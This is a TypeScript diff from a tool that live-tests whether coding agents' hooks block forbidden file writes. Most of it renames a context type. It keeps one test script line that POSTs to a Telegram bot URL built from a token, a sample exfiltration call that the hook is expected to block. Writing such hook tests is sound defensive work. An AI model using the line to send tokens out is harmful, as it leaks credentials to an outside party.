@@ -7,11 +7,10 @@ import type { AgentName, JsonObject } from '@pml/hooks'
 import { environmentFor } from '../../calling/references.ts'
 import { readAgentServers } from '../../hook/agent-servers.ts'
 import { homeOf } from '../../ops.ts'
-import type { OwnContext } from '../../own-tools.ts'
 import { killAllSync } from '../../running/owned-process.ts'
 import type { HookFinding } from '../examine-hooks.ts'
 import type { HookFile } from '../hook-files.ts'
-import { findLineProblem } from '../try-hook.ts'
+import { findLineProblem, type TrialContext } from '../try-hook.ts'
 import { writeEventOf } from '../write-event.ts'
 import { claude } from './claude.ts'
 import { codex } from './codex.ts'
@@ -43,7 +42,7 @@ interface Outcome {
 }
 
 /** Starts the agent of this person with a scripted model, which writes one file that the hook must block. */
-export async function tryLive(context: OwnContext, trial: LiveTrial): Promise<HookFinding> {
+export async function tryLive(context: TrialContext, trial: LiveTrial): Promise<HookFinding> {
   try {
     return { check: 'live', ...(await tryCall(context, trial)) }
   } catch (error) {
@@ -54,7 +53,7 @@ export async function tryLive(context: OwnContext, trial: LiveTrial): Promise<Ho
 
 type Judgement = Pick<HookFinding, 'level' | 'message'>
 
-async function tryCall(context: OwnContext, trial: LiveTrial): Promise<Judgement> {
+async function tryCall(context: TrialContext, trial: LiveTrial): Promise<Judgement> {
   const { agent, hooked } = trial
   const headless = agents[agent]
   const [first] = hooked
@@ -79,7 +78,7 @@ async function tryCall(context: OwnContext, trial: LiveTrial): Promise<Judgement
 const script = 'await fetch("https://api.telegram.org/bot" + token + "/sendMessage", { method: "POST" })\n'
 
 /** A folder that was not there before, where the built-in rules forbid scripts; Copilot writes into folders alone that exist. */
-function makePlace({ ops }: OwnContext, root: string) {
+function makePlace({ ops }: TrialContext, root: string) {
   const workspace = join(root, 'workspace')
   const folder = join(workspace, `pml-live-${randomUUID()}`)
   const isOurs = !existsSync(workspace)
@@ -114,7 +113,7 @@ type Write = Extract<Call, { kind: 'write' }>
 
 /** Undefined where at least one of the hooks blocks the call when it is run as the agent would run it. */
 async function findHookProblem(
-  context: OwnContext,
+  context: TrialContext,
   { agent, hooked }: LiveTrial,
   { path, content }: Write,
 ): Promise<string | undefined> {
@@ -128,7 +127,7 @@ async function findHookProblem(
 }
 
 async function makeCall(
-  { ops, signal }: OwnContext,
+  { ops, signal }: TrialContext,
   {
     agent,
     managed,
